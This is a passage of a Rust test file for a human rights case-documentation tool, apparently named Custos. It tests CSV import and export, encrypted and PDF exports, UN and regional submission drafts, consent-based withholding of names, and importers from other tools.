}

#[test]
fn a_bad_enum_value_and_an_unknown_mapped_field_are_reported() {
    let (tmp, _d, mut vault) = new_vault();
    fill(&mut vault, tmp.path());
    let before = vault.version_count();
    let mapping =
        Mapping::from_json(br#"{"columns": {"Name": "title", "State": "status", "Who": "nmae"}}"#)
            .unwrap();
    let csv = b"Name,State,Who\nA case,opn,x\n";
    let e = import_csv(&mut vault, Kind::Case, csv, &mapping, None).unwrap_err();
    let custos_vault::Error::Import(problems) = e else {
        panic!("{e}")
    };
    assert!(
        problems
            .iter()
            .any(|p| p.field == "Who" && p.message.contains("no field 'nmae'")),
        "{problems:?}"
    );
    assert!(
        problems
            .iter()
            .any(|p| p.line == Some(2) && p.field == "State" && p.message.contains("opn")),
        "{problems:?}"
    );
    // A column the file lacks, and no case for records that need one.
    let mapping = Mapping::from_json(br#"{"columns": {"Nom": "name"}}"#).unwrap();
    let e = import_csv(&mut vault, Kind::Person, b"Name\nA\n", &mapping, None).unwrap_err();
    let s = e.to_string();
    assert!(s.contains("Nom") && s.contains("case_id"), "{s}");
    assert_eq!(vault.version_count(), before);
}

#[test]
fn a_valid_csv_imports_every_row_in_one_commit() {
    let (tmp, _d, mut vault) = new_vault();
    let f = fill(&mut vault, tmp.path());
    let other = vault
        .add(Record::Case(Case {
            title: "Second".into(),
            ..Case::default()
        }))
        .unwrap();
    let mapping = Mapping::from_json(
        br#"{"columns": {"Full name": "name", "Born": "birth_date", "Roles": "roles",
             "Gov": "consent.share_with_government", "Case": "case_id",
             "Group": "is_group", "Size": "group_size", "Bio": "human_rights_work"},
             "list_separator": "|"}"#,
    )
    .unwrap();
    let csv = format!(
        "\u{FEFF}Full name,Born,Roles,Gov,Case,Group,Size,Bio,Unmapped\n\
         نور الهدى,1990-05,Victim|Witness,Given,,no,,\"{}\",x\n\
         The Union,,intervening party,Not asked,{other},yes,40,,y\n",
        HARD.replace('"', "\"\"")
    );
    let before = vault.version_count();
    let stats = import_csv(
        &mut vault,
        Kind::Person,
        csv.as_bytes(),
        &mapping,
        Some(f.case),
    )
    .unwrap();
    assert_eq!(stats.ids.len(), 2);
    assert_eq!(stats.ignored_columns, vec!["Unmapped".to_owned()]);
    assert_eq!(vault.version_count(), before + 2);
    let Some(Record::Person(a)) = vault.get(stats.ids[0]).unwrap().into_record() else {
        panic!()
    };
    assert_eq!(a.name, "نور الهدى");
    assert_eq!(a.case_id, f.case, "--case fills an empty case_id");
    assert_eq!(a.roles, vec![Role::Victim, Role::Witness]);
    assert_eq!(
        a.birth_date,
        Some(FuzzyDate {
            date: "1990-05-01".parse().unwrap(),
            precision: Precision::Month
        })
    );
    assert_eq!(a.consent.share_with_government, Consent::Given);
    assert_eq!(a.human_rights_work, HARD);
    let Some(Record::Person(b)) = vault.get(stats.ids[1]).unwrap().into_record() else {
        panic!()
    };
    assert_eq!(b.case_id, other, "a case_id column wins");
    assert_eq!((b.is_group, b.group_size), (true, Some(40)));
    assert_eq!(b.roles, vec![Role::InterveningParty]);
}

#[test]
fn a_csv_export_imports_back_with_a_mapping() {
    let (tmp, _d, mut vault) = new_vault();
    fill(&mut vault, tmp.path());
    let out = tmp.path().join("x");
    export_csv(
        &vault,
        &Selection::all(),
        &out,
        &Protection::Plaintext,
        &mut no_progress,
    )
    .unwrap();
    let events = std::fs::read(out.join("events.csv")).unwrap();
    let mapping = Mapping::from_json(
        br#"{"columns": {"Case record number": "case_id", "Event title": "title",
             "Initial date": "start", "Event description": "description",
             "Geographical term": "location.country"}}"#,
    )
    .unwrap();
    let stats = import_csv(&mut vault, Kind::Incident, &events, &mapping, None).unwrap();
    let Some(Record::Incident(i)) = vault.get(stats.ids[0]).unwrap().into_record() else {
        panic!()
    };
    assert_eq!(i.description, HARD);
    assert_eq!(i.title, "Night raid, union office");
    assert_eq!(i.location.unwrap().country, "TN");
}

// ----- the command line -----

struct Cli {
    tmp: tempfile::TempDir,
    dir: PathBuf,
    pass_file: PathBuf,
}

impl Cli {
    fn run(&self, args: &[&str]) -> Output {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_custos"));
        cmd.arg("--vault")
            .arg(&self.dir)
            .arg("--passphrase-file")
            .arg(&self.pass_file)
            .args(args)
            .env("HOME", self.tmp.path())
            // English whatever the machine's locale: the tests match on the words.
            .env("CUSTOS_LANG", "en")
            .env("XDG_DATA_HOME", self.tmp.path().join("data"))
            // Failed unlocks are counted in the config folder: the test's, not the user's.
            .env_remove("XDG_CONFIG_HOME")
            .env_remove("CUSTOS_CONFIG_DIR")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let child = {
            let _shared = SPAWN.read().unwrap_or_else(PoisonError::into_inner);
            cmd.spawn().expect("spawn custos")
        };
        child.wait_with_output().expect("run custos")
    }

    fn ok(&self, args: &[&str]) -> (String, String) {
        let out = self.run(args);
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        assert!(out.status.success(), "{args:?} failed:\n{stderr}");
        (stdout, stderr)
    }

    fn fail(&self, args: &[&str]) -> String {
        let out = self.run(args);
        assert!(!out.status.success(), "{args:?} succeeded");
        String::from_utf8_lossy(&out.stderr).into_owned()
    }

    fn path(&self, name: &str) -> PathBuf {
        self.tmp.path().join(name)
    }
}

fn cli_with_case() -> (Cli, Fixture) {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("vault");
    let pass_file = tmp.path().join("pass.txt");
    std::fs::write(&pass_file, format!("{PASS}\n")).unwrap();
    let f = {
        let _x = SPAWN.write().unwrap_or_else(PoisonError::into_inner);
        let mut vault = Vault::create(&dir, &pass(), OPTS).unwrap();
        let f = fill(&mut vault, tmp.path());
        vault.lock().unwrap();
        f
    };
    (
        Cli {
            tmp,
            dir,
            pass_file,
        },
        f,
    )
}

#[test]
fn cli_patterns_are_for_pdf_only_with_a_threshold_of_one_or_more() {
    let (cli, f) = cli_with_case();
    let case = f.case.to_string();
    let out = cli.path("p.json");
    let o = out.to_str().unwrap();
    let err = cli.fail(&["export", "--format", "json", "--patterns", "--output", o]);
    assert!(err.contains("--patterns is for the PDF formats"), "{err}");
    let pdf = cli.path("p.pdf");
    let p = pdf.to_str().unwrap();
    let err = cli.fail(&[
        "export",
        "--format",
        "pdf",
        "--threshold",
        "2",
        "--output",
        p,
    ]);
    assert!(err.contains("--patterns"), "{err}");
    let err = cli.fail(&[
        "export",
        "--format",
        "pdf",
        "--patterns",
        "--threshold",
        "0",
        "--case",
        &case,
        "--output",
        p,
    ]);
    assert!(err.contains("threshold"), "{err}");
    assert!(!out.exists() && !pdf.exists());
}

#[test]
fn cli_writes_the_case_report_with_its_patterns() {
    let (cli, f) = cli_with_case();
    let case = f.case.to_string();
    let pdf = cli.path("patterns.pdf");
    cli.ok(&[
        "export",
        "--format",
        "pdf",
        "--patterns",
        "--threshold",
        "2",
        "--case",
        &case,
        "--output",
        pdf.to_str().unwrap(),
    ]);
    let bytes = std::fs::read(&pdf).unwrap();
    assert_pdf(&bytes);
    let (_, text) = pdf_text(&bytes);
    assert!(text.contains("Patterns"), "{text}");
    assert!(text.contains("fewer than 2"), "{text}");
}

#[test]
fn cli_writes_the_case_report_in_the_language_asked_and_refuses_one_it_lacks() {
    let (cli, f) = cli_with_case();
    let case = f.case.to_string();
    let pdf = cli.path("report-ru.pdf");
    let p = pdf.to_str().unwrap();
    cli.ok(&[
        "export", "--format", "pdf", "--lang", "ru", "--case", &case, "--output", p,
    ]);
    let (_, text) = pdf_text(&std::fs::read(&pdf).unwrap());
    assert!(text.contains("Отчёт по делу"), "{text}");
    assert!(!text.contains("Case report"), "{text}");
    // Without --lang: English, as before.
    let en = cli.path("report-en.pdf");
    cli.ok(&[
        "export",
        "--format",
        "pdf",
        "--case",
        &case,
        "--output",
        en.to_str().unwrap(),
    ]);
    let (_, text) = pdf_text(&std::fs::read(&en).unwrap());
    assert!(text.contains("Case report"), "{text}");
    let bad = cli.path("report-xx.pdf");
    let err = cli.fail(&[
        "export",
        "--format",
        "pdf",
        "--lang",
        "xx",
        "--output",
        bad.to_str().unwrap(),
    ]);
    assert!(err.contains("zh-Hans") && err.contains("'xx'"), "{err}");
    assert!(!bad.exists());
}

#[test]
fn cli_exports_every_format_and_refuses_what_it_should() {
    let (cli, f) = cli_with_case();
    let case = f.case.to_string();
    let s = |p: &Path| p.to_str().unwrap().to_owned();

    let csv_dir = cli.path("csv");
    let (_, err) = cli.ok(&["export", "--format", "csv", "--output", &s(&csv_dir)]);
    assert!(err.contains("NOT encrypted"), "{err}");
    let (h, _) = read_csv(&csv_dir.join("acts.csv"));
    assert!(h.contains(&"Type of act".to_owned()));

    let pdf = cli.path("report.pdf");
    cli.ok(&[
        "export",
        "--format",
        "pdf",
        "--case",
        &case,
        "--output",
        &s(&pdf),
    ]);
    assert_pdf(&std::fs::read(&pdf).unwrap());
    let err = cli.fail(&["export", "--format", "pdf", "--output", &s(&pdf)]);
    assert!(err.contains("already exists"), "{err}");

    // An invalid recipient: refused before anything is written.
    let bad = cli.path("bad.json");
    let err = cli.fail(&[
        "export",
        "--output",
        &s(&bad),
        "--encrypt-to",
        "age1definitelynotakey",
    ]);
    assert!(err.contains("not a valid age recipient"), "{err}");
    assert!(!bad.exists());

    // Encrypted JSON decrypts to the export.
    let id = age::x25519::Identity::generate();
    let enc = cli.path("all.json.age");
    let (_, err) = cli.ok(&[
        "export",
        "--output",
        &s(&enc),
        "--encrypt-to",
        &id.to_public().to_string(),
    ]);
    assert!(err.contains("encrypted with age"), "{err}");
    let doc: serde_json::Value =
        serde_json::from_slice(&decrypt(&std::fs::read(&enc).unwrap(), &id)).unwrap();
    // Case, three persons, incident, intervention, evidence.
    assert_eq!(doc["records"].as_array().unwrap().len(), 7);

    // The communication: refused with the list of what is missing, then written once
    // confirmed.
    let un = cli.path("un.txt");
    let base = [
        "export",
        "--format",
        "un-sr",
        "--case",
        &case,
        "--type",
        "allegation-letter",
        "--output",
    ];
    let mut args: Vec<&str> = base.to_vec();
    let un_s = s(&un);
    args.extend([un_s.as_str(), "--submitter", "Ligue"]);
    let err = cli.fail(&args);
    assert!(
        err.contains("link_to_work") && err.contains("perpetrator_type"),
        "{err}"
    );
    assert!(!un.exists());
    let perp = format!("{}=state", f.perpetrator);
    let mut full = args.clone();
    full.extend([
        "--link-to-work",
        "arrested after the report",
        "--current-risk",
        "summoned again",
        "--context",
        "third raid",
        "--perpetrator-type",
        &perp,
    ]);
    cli.ok(&full);
    let text = std::fs::read_to_string(&un).unwrap();
    assert!(text.contains("Type: State actor"), "{text}");
    std::fs::remove_file(&un).unwrap();
    args.push("--allow-missing");
    let (_, err) = cli.ok(&args);
    assert!(err.contains("missing: link_to_work"), "{err}");
    assert!(un.exists());

    // --check lists and writes nothing.
    let mut check: Vec<&str> = vec![
        "export",
        "--format",
        "un-sr",
        "--case",
        &case,
        "--type",
        "urgent-appeal",
        "--output",
        "never.txt",
        "--check",
    ];
    let out = cli.run(&check);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).contains("submitter: "));
    check.retain(|a| *a != "--check");
    let err = cli.fail(&[
        "export",
        "--format",
        "csv",
        "--output",
        "x",
        "--submitter",
        "y",
    ]);
    assert!(err.contains("un-sr"), "{err}");
}

/// The communication's texts are trimmed as the desktop trims them (one use case in
/// custos-app): spaces around a pasted paragraph do not reach the document.
#[test]
fn cli_communication_texts_are_trimmed_like_the_desktops() {
    let (cli, f) = cli_with_case();
    let case = f.case.to_string();
    let un = cli.path("trimmed.txt");
    let perp = format!("{}= state ", f.perpetrator);
    cli.ok(&[
        "export",
        "--format",
        "un-sr",
        "--case",
        &case,
        "--type",
        " allegation-letter ",
        "--output",
        un.to_str().unwrap(),
        "--submitter",
        "   Ligue   ",
        "--link-to-work",
        "\n   arrested after the report   \n",
        "--current-risk",
        "summoned again",
        "--context",
        "   third raid",
        "--perpetrator-type",
        &perp,
    ]);
    let text = std::fs::read_to_string(&un).unwrap();
    assert!(text.contains("arrested after the report"), "{text}");
    assert!(!text.contains("   arrested"), "untrimmed text in:\n{text}");
    assert!(
        !text.contains("   third raid"),
        "untrimmed text in:\n{text}"
    );
    assert!(!text.contains("   Ligue"), "untrimmed text in:\n{text}");
}

#[test]
fn cli_imports_csv_all_or_nothing() {
    let (cli, f) = cli_with_case();
    let case = f.case.to_string();
    let s = |p: &Path| p.to_str().unwrap().to_owned();
    let mapping = cli.path("map.json");
    std::fs::write(
        &mapping,
        r#"{"columns": {"Name": "name", "Sex": "sex", "Publish": "consent.publish"}}"#,
    )
    .unwrap();
    let bad = cli.path("bad.csv");
    std::fs::write(
        &bad,
        "Name,Sex,Publish\nA,f,yes please\n,m,given\nC,f,given\n",
    )
    .unwrap();
    let err = cli.fail(&[
        "import",
        "--csv",
        &s(&bad),
        "--kind",
        "person",
        "--mapping",
        &s(&mapping),
        "--case",
        &case,
    ]);
    assert!(err.contains("nothing was imported"), "{err}");
    assert!(err.contains("line 2: Publish"), "{err}");
    assert!(err.contains("line 3: Name"), "{err}");
    let good = cli.path("good.csv");
    std::fs::write(&good, "Name,Sex,Publish\nA,f,Given\nC,m,refused\n").unwrap();
    let (out, _) = cli.ok(&[
        "import",
        "--csv",
        &s(&good),
        "--kind",
        "person",
        "--mapping",
        &s(&mapping),
        "--case",
        &case,
    ]);
    assert!(out.contains("imported 2 new person records"), "{out}");
    let (list, _) = cli.ok(&["list", "--kind", "person", "--json"]);
    let list: serde_json::Value = serde_json::from_str(&list).unwrap();
    assert_eq!(list.as_array().unwrap().len(), 5);
}

#[test]
fn garbage_csv_is_refused_without_a_panic_and_imports_nothing() {
    let (tmp, _d, mut vault) = new_vault();
    let f = fill(&mut vault, tmp.path());
    let before = vault.version_count();
    let mapping = Mapping::from_json(br#"{"columns": {"Name": "name", "Sex": "sex"}}"#).unwrap();
    let inputs: [&[u8]; 6] = [
        b"",
        b"\xEF\xBB\xBF",
        b"Name,Sex\n",
        b"Name,Sex\n\"unterminated,f\n",
        b"Name,Sex\n\xff\xfe,\xc3\x28\n",
        b"\x00\x01\x02,\n\n\n,,,,\n",
    ];
    for input in inputs {
        match import_csv(&mut vault, Kind::Person, input, &mapping, Some(f.case)) {
            Err(Error::Import(p)) => assert!(!p.is_empty()),
            other => panic!("{:?}: {other:?}", String::from_utf8_lossy(input)),
        }
    }
    // Invalid UTF-8 in a mapped cell names the line and the column.
    let e = import_csv(
        &mut vault,
        Kind::Person,
        b"Name,Sex\nA,\xc3\x28\n",
        &mapping,
        Some(f.case),
    )
    .unwrap_err();
    assert!(
        e.to_string().contains("line 2: Sex: not valid UTF-8"),
        "{e}"
    );
    assert_eq!(vault.version_count(), before);
}

#[test]
fn the_json_export_reports_its_progress_to_the_end() {
    let (_t, _dir, mut vault) = new_vault();
    let ids: Vec<Uuid> = (0..250)
        .map(|i| {
            vault
                .add(Record::Case(Case {
                    title: format!("case {i}"),
                    ..Case::default()
                }))
                .unwrap()
        })
        .collect();
    let mut calls: Vec<(usize, usize)> = Vec::new();
    let mut out = Vec::new();
    let stats =
        custos_report::json::export_json_with_progress(&vault, None, &mut out, &mut |d, t| {
            calls.push((d, t))
        })
        .unwrap();
    assert_eq!(stats.records, ids.len());
    // From nothing to everything, never backwards, the total never changing, and the
    // end announced only once the document is written.
    assert_eq!(calls.first(), Some(&(0, 251)));
    assert_eq!(calls.last(), Some(&(251, 251)));
    assert!(calls
        .windows(2)
        .all(|w| w[0].0 <= w[1].0 && w[0].1 == w[1].1));
    assert!(
        calls.len() > 10,
        "{} calls: too few to draw a bar",
        calls.len()
    );
    let doc: serde_json::Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(doc["records"].as_array().unwrap().len(), 250);
}

#[test]
fn a_damaged_record_stops_every_export_names_it_and_leaves_nothing() {
    // Exports read in parallel, in chunks: a record damaged on disk in a later chunk
    // still stops the export with its name, and no file is left behind.
    let (tmp, dir, mut vault) = new_vault();
    let ids: Vec<Uuid> = (0..300)
        .map(|i| {
            vault
                .add(Record::Case(Case {
                    title: format!("case {i}"),
                    ..Case::default()
                }))
                .unwrap()
        })
        .collect();
    let bad = ids[280];
    let version = vault.get(bad).unwrap().version_id;
    {
        let _x = SPAWN.write().unwrap_or_else(PoisonError::into_inner);
        vault.lock().unwrap();
        let store = custos_vault::store::Store::open(&dir.join("db"), 0).unwrap();
        let mut ct = store.version(version).unwrap().unwrap();
        let n = ct.len();
        ct[n - 30] ^= 0x08;
        store
            .commit(vec![custos_vault::store::Write::Version(version, ct)])
            .unwrap();
    }
    let vault = {
        let _x = SPAWN.write().unwrap_or_else(PoisonError::into_inner);
        Vault::unlock(&dir, &pass(), OPTS).unwrap()
    };
    let names_it = |e: &Error| matches!(e, Error::Damaged { record: Some(r), .. } if *r == bad);

    let json = tmp.path().join("all.json");
    let e = write_file(&json, &Protection::Plaintext, |w| {
        custos_report::json::export_json(&vault, None, w)
    })
    .unwrap_err();
    assert!(names_it(&e), "{e}");
    assert!(!json.exists(), "a partial JSON export was left");

    let csv = tmp.path().join("csv");
    let e = export_csv(
        &vault,
        &Selection::all(),
        &csv,
        &Protection::Plaintext,
        &mut no_progress,
    )
    .unwrap_err();
    assert!(names_it(&e), "{e}");
    assert!(!csv.exists(), "a partial CSV export was left");
}

/// Intervention records of the case, as `custos list --json` shows them.
fn interventions(cli: &Cli, case: &str) -> Vec<String> {
    let (out, _) = cli.ok(&["list", "--case", case, "--kind", "intervention", "--json"]);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    v.as_array()
        .unwrap()
        .iter()
        .map(|i| i["record_id"].as_str().unwrap().to_owned())
        .collect()
}

/// Every mechanism from the command line: in a language it accepts (and not in one it
/// does not), its answers kept in a draft intervention the next export can start from
/// (`--saved`), `--check` and a refused export leaving the vault as it was, and the draft
/// marked sent and then due for a follow-up.
#[test]
fn cli_writes_each_submission_keeps_its_draft_and_follows_it_up() {
    use custos_report::submission::Mechanism;
    let (cli, f) = cli_with_case();
    let case = f.case.to_string();
    let before = interventions(&cli, &case);

    // The form's questions, without opening the vault.
    let (out, _) = cli.ok(&["export", "--format", "iachr", "--questions"]);
    assert!(out.contains("languages: es, en, pt, fr"), "{out}");
    assert!(out.contains("irreparable_harm"), "{out}");

    // A language the mechanism does not accept: refused, nothing written.
    let no = cli.path("obs-ar.txt");
    let err = cli.fail(&[
        "export",
        "--format",
        "observatory",
        "--case",
        &case,
        "--lang",
        "ar",
        "--output",
        no.to_str().unwrap(),
        "--allow-missing",
    ]);
    assert!(err.contains("en, fr, es"), "{err}");
    assert!(!no.exists());
    // A question the mechanism does not ask: refused.
    let err = cli.fail(&[
        "export",
        "--format",
        "eu",
        "--case",
        &case,
        "--answer",
        "seriousness=x",
        "--output",
        no.to_str().unwrap(),
        "--allow-missing",
    ]);
    assert!(err.contains("seriousness"), "{err}");
    assert!(!no.exists());

    // --check lists what is missing and writes nothing, not even a draft.
    let out = cli.run(&["export", "--format", "achpr", "--case", &case, "--check"]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).contains("domestic_remedies"));
    // Refused for what it lacks: no file, no draft.
    let refused = cli.path("achpr.txt");
    let err = cli.fail(&[
        "export",
        "--format",
        "achpr",
        "--case",
        &case,
        "--output",
        refused.to_str().unwrap(),
    ]);
    assert!(err.contains("domestic_remedies"), "{err}");
    assert!(!refused.exists());
    assert_eq!(interventions(&cli, &case), before);

    // Each mechanism in a language it accepts other than its first, text and PDF.
    for (m, lang) in [
        (Mechanism::UnSr, "es"),
        (Mechanism::Observatory, "fr"),
        (Mechanism::Eu, "es"),
        (Mechanism::Achpr, "pt"),
        (Mechanism::Iachr, "pt"),
    ] {
        let text = cli.path(&format!("{}.txt", m.name()));
        let mut args = vec![
            "export",
            "--format",
            m.name(),
            "--case",
            &case,
            "--lang",
            lang,
            "--answer",
            "context=Third raid on the union this year",
            "--output",
            text.to_str().unwrap(),
            "--allow-missing",
        ];
        if m == Mechanism::UnSr {
            args.extend(["--type", "urgent-appeal"]);
        }
        let (_, err) = cli.ok(&args);
        assert!(err.contains("draft intervention"), "{err}");
        let written = std::fs::read_to_string(&text).unwrap();
        assert!(written.contains(&m.title(lang)), "{}: {written}", m.name());
        assert!(written.contains("Third raid on the union this year"));
        let pdf = cli.path(&format!("{}.pdf", m.name()));
        let format = format!("{}-pdf", m.name());
        let mut args = vec![
            "export",
            "--format",
            &format,
            "--case",
            &case,
            "--saved",
            "--output",
            pdf.to_str().unwrap(),
            "--allow-missing",
        ];
        if m == Mechanism::UnSr {
            args.extend(["--type", "urgent-appeal"]);
        }
        cli.ok(&args);
        let (_, pdf_text) = pdf_text(&std::fs::read(&pdf).unwrap());
        assert!(
            pdf_text.contains("Third raid on the union this year"),
            "{}: --saved brought the answer back: {pdf_text}",
            m.name()
        );
    }
    // One draft per mechanism: the second export of each updated the first's draft.
    let after = interventions(&cli, &case);
    assert_eq!(after.len(), before.len() + 5, "{after:?}");
    let drafts: Vec<&String> = after.iter().filter(|i| !before.contains(i)).collect();

    // A draft awaits nothing; marked sent it awaits a response, and falls due.
    let (out, _) = cli.ok(&["intervention", "due", "--json"]);
    let due: serde_json::Value = serde_json::from_str(&out).unwrap();
    let listed = |v: &serde_json::Value, id: &str| {
        v["interventions"]
            .as_array()
            .unwrap()
            .iter()
            .find(|i| i["intervention_id"] == id)
            .cloned()
    };
    assert!(listed(&due, drafts[0]).is_none());
    cli.ok(&[
        "intervention",
        "sent",
        drafts[0],
        "--date",
        "2026-11-02",
        "--channel",
        "e-mail",
        "--reference",
        "REF-7",
        "--follow-up",
        "2026-12-01",
    ]);
    let (out, _) = cli.ok(&["intervention", "due", "--today", "2026-11-30", "--json"]);
    let i = listed(&serde_json::from_str(&out).unwrap(), drafts[0]).unwrap();
    assert_eq!(
        (i["awaiting"].as_bool(), i["due"].as_bool()),
        (Some(true), Some(false))
    );
    let (out, _) = cli.ok(&["intervention", "due", "--today", "2026-12-01"]);
    assert!(
        out.contains(drafts[0].as_str()) && out.contains("DUE"),
        "{out}"
    );
    // The case list's follow-up filters, from the command line.
    let cases_found = |args: &[&str]| -> Vec<String> {
        let mut all = vec!["search", "--json"];
        all.extend(args);
        let (out, _) = cli.ok(&all);
        let v: serde_json::Value = serde_json::from_str(&out).unwrap();
        v["hits"]
            .as_array()
            .unwrap()
            .iter()
            .map(|h| h["record_id"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(cases_found(&["--awaiting-response"]), vec![case.clone()]);
    assert_eq!(
        cases_found(&["--follow-up-due", "2026-12-01"]),
        vec![case.clone()]
    );
    // (The fixture's answered complaint has its own follow-up, on 2024-07-01.)
    assert!(cases_found(&["--follow-up-due", "2024-06-30"]).is_empty());
    let err = cli.fail(&["search", "--follow-up-due", "12/01/2026"]);
    assert!(err.contains("not a day"), "{err}");
    let (shown, _) = cli.ok(&["show", drafts[0], "--json"]);
    assert!(
        shown.contains("REF-7") && shown.contains("\"sent\""),
        "{shown}"
    );
    // Sent twice: refused, and a follow-up before sending is refused.
    let err = cli.fail(&["intervention", "sent", drafts[0]]);
    assert!(err.contains("already marked sent"), "{err}");
    let err = cli.fail(&[
        "intervention",
        "sent",
        drafts[1],
        "--date",
        "2026-11-02",
        "--follow-up",
        "2026-11-01",
    ]);
    assert!(err.contains("before the day it was sent"), "{err}");
    // The options of a submission are refused with another format.
    let err = cli.fail(&[
        "export", "--format", "json", "--output", "x.json", "--lang", "fr",
    ]);
    assert!(err.contains("submissions"), "{err}");
}

/// Consent to be named to the government is not consent to be named to the UN
/// Special Rapporteur: a victim who agreed to the one and was never asked about the
/// other is withheld from the communication, and the missing list says to ask them.
#[test]
fn consent_to_the_government_alone_does_not_name_a_person_to_the_un() {
    let (tmp, _d, mut vault) = new_vault();
    let f = fill(&mut vault, tmp.path());
    const CANARY: &str = "Ysolde Pembrake";
    let c = person(
        f.case,
        CANARY,
        vec![Role::Victim],
        Consents {
            share_with_government: Consent::Given,
            publish: Consent::Given,
            ..Consents::default()
        },
    );
    let canary = vault.add(Record::Person(c)).unwrap();
    let req = request(&f);
    let (bytes, stats) =
        communication(&vault, &req, UnSrFormat::Text, true, &mut no_progress).unwrap();
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    assert!(
        !text.contains("Pembrake"),
        "named to the UN without being asked:\n{text}"
    );
    assert_eq!(stats.withheld, 1);
    let missing = missing_elements(&vault, &req).unwrap();
    assert!(
        missing.iter().any(|m| m.record == Some(canary)),
        "{missing:?}"
    );

    // Once they agree to the UN too, they are named.
    let mut given = person(f.case, CANARY, vec![Role::Victim], GIVEN);
    given.consent.omct_fidh_observatory = Consent::Refused;
    vault.update(canary, Record::Person(given)).unwrap();
    let (bytes, _) = communication(&vault, &req, UnSrFormat::Text, true, &mut no_progress).unwrap();
    assert!(String::from_utf8(bytes.to_vec()).unwrap().contains(CANARY));
}

// ----- imports from other tools -----

fn import_sample(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../import/samples")
        .join(rel)
}

fn versions_of(cli: &Cli) -> usize {
    let _x = SPAWN.write().unwrap_or_else(PoisonError::into_inner);
    let vault = Vault::unlock(&cli.dir, &pass(), OPTS).unwrap();
    let n = vault.version_count();
    vault.lock().unwrap();
    n
}

#[test]
fn cli_imports_another_tool_s_export_after_its_preview_and_only_once() {
    let (cli, _f) = cli_with_case();
    let zip = import_sample("odk/central/incident_report.zip");
    let zip = zip.to_str().unwrap();
    let before = versions_of(&cli);

    let (out, _) = cli.ok(&["import", "--from", "odk", "--preview", zip]);
    assert!(out.contains("ODK export"), "{out}");
    assert!(out.contains("would make: "), "{out}");
    assert!(out.contains(" case"), "{out}");
    assert!(out.contains("kept in a note of each record"), "{out}");
    assert!(out.contains("nothing was written (--preview)"), "{out}");
    assert_eq!(versions_of(&cli), before, "a preview wrote");

    let (out, _) = cli.ok(&["import", "--from", "odk", zip]);
    assert!(out.contains("imported "), "{out}");
    assert!(out.contains(" evidence files from ODK"), "{out}");
    let after = versions_of(&cli);
    assert!(after > before);

    let (out, _) = cli.ok(&["import", "--from", "odk", zip]);
    assert!(out.contains("nothing new"), "{out}");
    assert!(
        out.contains("imported 0 new records and 0 evidence files"),
        "{out}"
    );
    assert_eq!(versions_of(&cli), after, "a second import wrote");
}

#[test]
fn cli_refuses_a_broken_export_with_every_problem_and_imports_nothing() {
    let (cli, _f) = cli_with_case();
    let dir = cli.path("martus");
    std::fs::create_dir_all(&dir).unwrap();
    let xml = std::fs::read_to_string(import_sample("martus/exported/bulletins.xml")).unwrap();
    let cut = dir.join("bulletins.xml");
    std::fs::write(&cut, &xml[..xml.len() / 2]).unwrap();
    let before = versions_of(&cli);
    let cut = cut.to_str().unwrap();

    let err = cli.fail(&["import", "--from", "martus", cut]);
    assert!(
        err.contains("the export was refused: nothing was imported"),
        "{err}"
    );
    assert!(err.contains("bulletins.xml line "), "{err}");
    assert!(err.contains("truncated"), "{err}");
    // The preview lists the same problems, and says so by its exit status.
    let err = cli.fail(&["import", "--from", "martus", "--preview", cut]);
    assert!(err.contains("truncated"), "{err}");
    assert_eq!(versions_of(&cli), before);

    // A tool it does not know, a preview without a tool, a path that is not there.
    let err = cli.fail(&["import", "--from", "kobo", cut]);
    assert!(err.contains("martus") && err.contains("tella"), "{err}");
    let err = cli.fail(&["import", "--preview", cut]);
    assert!(err.contains("--from"), "{err}");
    let missing = cli.path("nowhere.xml");
    let err = cli.fail(&["import", "--from", "martus", missing.to_str().unwrap()]);
    assert!(
        err.contains("does not exist: nothing was imported"),
        "{err}"
    );
}

#[test]
fn cli_exports_to_uwazi_what_uwazi_imports_and_its_importer_reads_back() {
    let (cli, _f) = cli_with_case();
    let out = cli.path("to-uwazi");
    let (_, err) = cli.ok(&[
        "export",
        "--format",
        "uwazi",
        "--output",
        out.to_str().unwrap(),
    ]);
    assert!(err.contains("NOT encrypted"), "{err}");
    assert!(err.contains("templates.md"), "{err}");
    for name in ["cases.csv", "incidents.csv", "persons.csv", "templates.md"] {
        assert!(out.join(name).is_file(), "no {name}");
    }
    let header = std::fs::read_to_string(out.join("cases.csv")).unwrap();
    assert!(header.starts_with("title,"), "{header}");
    // What Custos wrote for Uwazi, Custos's Uwazi importer reads without a problem.
    let incidents = out.join("incidents.csv");
    let (stdout, _) = cli.ok(&[
        "import",
        "--from",
        "uwazi",
        "--preview",
        incidents.to_str().unwrap(),
    ]);
    assert!(stdout.contains("would make: "), "{stdout}");
    // An existing folder is never written over.
    let err = cli.fail(&[
        "export",
        "--format",
        "uwazi",
        "--output",
        out.to_str().unwrap(),
    ]);
    assert!(err.contains("already exists"), "{err}");
}
